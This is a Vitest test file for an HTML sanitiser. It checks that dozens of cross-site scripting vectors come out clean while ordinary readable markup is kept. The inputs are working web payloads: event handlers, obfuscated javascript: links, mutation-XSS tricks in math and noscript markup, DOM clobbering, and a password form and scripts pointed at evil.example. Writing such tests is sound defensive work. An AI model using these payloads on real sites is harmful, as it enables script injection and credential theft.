// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { findDangers } from './dangers.fixture.ts';
import { safeFragment } from './safe-fragment.ts';

/** As a browser parses it, unsanitised. */
function rawFragment(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

function written(fragment: DocumentFragment): string {
  const box = document.createElement('div');
  box.append(fragment);
  return box.innerHTML;
}

describe('active content is removed', () => {
  test.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in a text', 'Hello <script src="https://evil.example/x.js"></script>there'],
    ['a script behind a broken tag', '<<script>alert(1)//<</script>'],
    ['an image that fails', '<img src=x onerror=alert(1)>'],
    ['an image that fails, without spaces', '<img/src="/x"/onerror=alert(1)>'],
    ['an image that loads', '<img src="https://evil.example/a.png" onload="alert(1)">'],
    ['a handler in capitals', '<p OnMouseOver="alert(1)">x</p>'],
    ['a handler that animates', '<b onanimationstart=alert(1) style="animation:x">x</b>'],
    ['a handler that takes focus', '<a href="/x" onfocus=alert(1) autofocus tabindex=1>x</a>'],
    ['a link to a script', '<a href="javascript:alert(1)">x</a>'],
    ['a link to a script in capitals', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['a link to a script broken by a tab', '<a href="java&#9;script:alert(1)">x</a>'],
    ['a link to a script broken by a line', '<a href="java&#10;script:alert(1)">x</a>'],
    ['a link to a script behind a control character', '<a href="&#1;javascript:alert(1)">x</a>'],
    ['a link to a script behind a space', '<a href="&#32;javascript:alert(1)">x</a>'],
    ['a link to a script in entities', '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>'],
    ['a link to VBScript', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a link to data', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
    ['a link to a blob', '<a href="blob:https://evil.example/1">x</a>'],
    ['a link to a file', '<a href="file:///etc/passwd">x</a>'],
    ['a link to a telephone', '<a href="tel:+61299990000">x</a>'],
    ['a link to another host without a scheme', '<a href="//evil.example">x</a>'],
    ['a link to another host behind a backslash', '<a href="/\\evil.example">x</a>'],
    ['a link to another host behind a tab', '<a href="/&#9;/evil.example">x</a>'],
    ['a link to another host behind a line', '<a href="/&#10;/evil.example">x</a>'],
    ['a link that opens as it likes', '<a href="https://evil.example" target="_top">x</a>'],
    ['a link that pings', '<a href="https://evil.example" ping="https://evil.example/p">x</a>'],
    ['a link in a drawing', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['a drawing', '<svg onload=alert(1)><circle r=9></svg>'],
    ['a drawing with a script', '<svg><script>alert(1)</script></svg>'],
    ['a drawing that animates a link', '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>'],
    ['a drawing that takes another', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
    ['a drawing with HTML in it', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
    ['a formula', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    [
      'a formula that is read twice',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['a form in a formula', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
    ['a text that is read twice', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['a template', '<template><img src=x onerror=alert(1)></template>'],
    ['an image of data', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
    ['an image of a drawing', '<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">'],
    ['an image of a script', '<img src="javascript:alert(1)">'],
    ['an image of a mail', '<img src="mailto:a@b.example">'],
    ['an image of another host without a scheme', '<img src="//evil.example/a.png">'],
    ['an image of several', '<img src="/a.png" srcset="javascript:alert(1) 2x">'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a frame with its own page', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['an object', '<object data="javascript:alert(1)"></object>'],
    ['an embedded thing', '<embed src="https://evil.example/x.swf">'],
    ['a form', '<form action="https://evil.example"><input name=password><button>Sign in</button></form>'],
    ['a button with an address of its own', '<button formaction="javascript:alert(1)">x</button>'],
    ['a choice', '<select><option>x</option></select>'],
    ['a text field', '<textarea autofocus onfocus=alert(1)></textarea>'],
    ['a style sheet', '<style>body{display:none}</style>'],
    ['a style of an element', '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>'],
    ['a class', '<p class="modal">x</p>'],
    ['an id that hides a variable', '<a id=defaultView href="/x">x</a>'],
    ['a name that hides a variable', '<img name=getElementById src="/x">'],
    ['a data attribute', '<p data-part="heading">x</p>'],
    ['a role', '<p role="alert" aria-live="assertive">x</p>'],
    ['a page that goes elsewhere', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['another base', '<base href="https://evil.example/">'],
    ['a style sheet from elsewhere', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['a video', '<video src="https://evil.example/x.mp4" onerror=alert(1)></video>'],
    ['a sound that fails', '<audio src=x onerror=alert(1)>'],
    ['what opens', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
    ['what moves', '<marquee onstart=alert(1)>x</marquee>'],
    ['a dialog', '<dialog open><p>Your session has ended</p></dialog>'],
    ['an element that is none', '<x-evil onclick=alert(1)>x</x-evil>'],
    ['an editable text', '<p contenteditable>x</p>'],
  ])('%s', (_name, html) => {
    // The vector must be dangerous without the sanitiser, else it proves nothing.
    expect(findDangers(rawFragment(html))).not.toEqual([]);
    expect(findDangers(safeFragment(html))).toEqual([]);
  });
});

test.each([
  ['a document of frames', '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>'],
  ['a document of frames after a head', '<head><title>x</title></head><frameset></frameset>'],
])('%s has no text', (_name, html) => {
  expect(written(safeFragment(html))).toBe('');
});

describe('readable content is kept', () => {
  test.each([
    ['text', 'Fish &amp; chips &lt; 5', 'Fish &amp; chips &lt; 5'],
    ['Chinese', '<p>你好，世界</p>', '<p>你好，世界</p>'],
    ['lines of a message', 'one<br>two', 'one<br>two'],
    ['emphasis', '<p><strong>a</strong> <em>b</em> <u>c</u><sup>2</sup></p>', undefined],
    ['headings', '<h1>a</h1><h4>b</h4>', undefined],
    ['lists', '<ul><li>a</li></ul><ol start="3"><li>b</li></ol>', undefined],
    ['a table', '<table><tbody><tr><th rowspan="2">a</th><td colspan="2">b</td></tr></tbody></table>', undefined],
    ['a link to the web', '<a href="https://school.example/a?b=1&amp;c=2#d">x</a>', undefined],
    ['a link to plain http', '<a href="http://school.example/">x</a>', undefined],
    ['a link to mail', '<a href="mailto:help@school.example">x</a>', undefined],
    ['a link of the portal', '<a href="/Help">x</a>', undefined],
    ['an image', '<img src="https://school.example/a.png" alt="A map" width="40">', undefined],
    ['an image of the portal', '<img src="/a.png" alt="">', undefined],
    ['a link that leads nowhere, as text', '<a href="javascript:alert(1)">Read on</a>', '<a>Read on</a>'],
    ['the text of a form', '<form>Your answer <b>here</b></form>', 'Your answer <b>here</b>'],
    ['the text of an unknown element', '<font color="red">Red</font>', 'Red'],
    ['nothing', '', ''],
    ['what is not closed', '<p>one <b>two', '<p>one <b>two</b></p>'],
    ['a comment, without it', 'a<!-- b -->c', 'ac'],
    ['a script in a text, without it', 'Hello <script>alert(1)</script>there', 'Hello there'],
  ])('%s', (_name, html, expected) => {
    expect(written(safeFragment(html))).toBe(expected ?? html);
  });
});
